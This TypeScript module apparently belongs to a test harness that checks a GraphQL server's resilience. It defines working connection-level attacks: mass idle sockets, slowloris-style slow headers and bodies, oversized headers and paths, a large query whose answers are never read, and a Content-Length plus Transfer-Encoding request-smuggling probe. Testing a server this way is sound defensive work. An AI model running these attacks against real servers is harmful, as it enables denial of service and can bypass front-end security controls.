import { once } from 'node:events'
import { connect, type Socket } from 'node:net'
import { ATTACKER_TOKEN } from './attacked-server.ts'
import type { Attack } from './documents.ts'

const HEAD = `POST /graphql HTTP/1.1\r\nHost: localhost\r\nAuthorization: Bearer ${ATTACKER_TOKEN}\r\nContent-Type: application/json\r\n`

const LISTS = Array.from(
  { length: 6 },
  (_, index) =>
    `m${index}: messages(first: 500, filter: { source: { eq: "shop" } }) { nodes { id text raw to from } }`,
)
const LARGE = JSON.stringify({ query: `{ ${LISTS.join(' ')} }` })

/** How long connections are kept by the attacker, in milliseconds. */
const HELD_MS = 2000

/** Opens connections, sends something over each, and keeps them for a while. @returns how many were still open */
async function hold(
  url: string,
  count: number,
  text: string,
  { drip = '', reads = true }: { readonly drip?: string; readonly reads?: boolean } = {},
): Promise<string> {
  const { hostname, port } = new URL(url)
  const open = new Set<Socket>()
  for (let index = 0; index < count; index += 1) {
    const socket = connect(Number(port), hostname)
    socket.on('error', () => undefined).on('close', () => open.delete(socket))
    if (reads) socket.resume()
    await Promise.race([once(socket, 'connect'), once(socket, 'close')]).catch(() => undefined)
    open.add(socket)
    socket.write(text)
  }
  const dripping = setInterval(() => {
    for (const socket of open) socket.write(drip)
  }, 100)
  await new Promise((resolve) => setTimeout(resolve, HELD_MS))
  clearInterval(dripping)
  const left = open.size
  for (const socket of open) socket.destroy()
  return `${left} of ${count} held`
}

/** Sends raw text over one connection. @returns the status line of the answer */
async function exchange(url: string, text: string): Promise<string> {
  const { hostname, port } = new URL(url)
  const socket = connect(Number(port), hostname)
  let received = ''
  socket.on('data', (data) => (received += String(data))).on('error', () => undefined)
  await once(socket, 'connect')
  socket.write(text)
  const closed = once(socket, 'close').catch(() => undefined)
  await Promise.race([closed, new Promise((resolve) => setTimeout(resolve, HELD_MS))])
  socket.destroy()
  return received.split('\r\n', 1)[0] || 'closed without an answer'
}

/** What is done with connections themselves. */
export const CONNECTION_ATTACKS: readonly Attack[] = [
  { name: '2,000 idle connections', run: (url) => hold(url, 2000, '') },
  { name: '500 connections with slow headers', run: (url) => hold(url, 500, HEAD, { drip: 'X' }) },
  {
    name: '500 connections with slow bodies',
    run: (url) => hold(url, 500, `${HEAD}Content-Length: 200000\r\n\r\n{"query":"`, { drip: 'a' }),
  },
  {
    name: '500 bodies that lack their last byte',
    run: (url) => hold(url, 500, `${HEAD}Content-Length: 250000\r\n\r\n${'a'.repeat(249_999)}`),
  },
  {
    name: '8 bodies in parts of one byte',
    run: (url) => hold(url, 8, `${HEAD}Transfer-Encoding: chunked\r\n\r\n${'1\r\na\r\n'.repeat(200_000)}`),
  },
  {
    name: '128 large answers that nobody reads',
    run: (url) => hold(url, 128, `${HEAD}Content-Length: ${LARGE.length}\r\n\r\n${LARGE}`, { reads: false }),
  },
  {
    name: 'headers of 1 MB',
    run: (url) => exchange(url, `${HEAD}X-Long: ${'a'.repeat(1_000_000)}\r\n\r\n`),
  },
  {
    name: '10,000 headers',
    run: (url) =>
      exchange(
        url,
        `${HEAD}${Array.from({ length: 10_000 }, (_, index) => `X${index}: 1\r\n`).join('')}\r\n`,
      ),
  },
  { name: 'a path of 1 MB', run: (url) => exchange(url, `GET /${'a'.repeat(1_000_000)} HTTP/1.1\r\n\r\n`) },
  {
    name: 'two lengths of one body',
    run: (url) =>
      exchange(
        url,
        `${HEAD}Content-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET / HTTP/1.1\r\n\r\n`,
      ),
  },
]
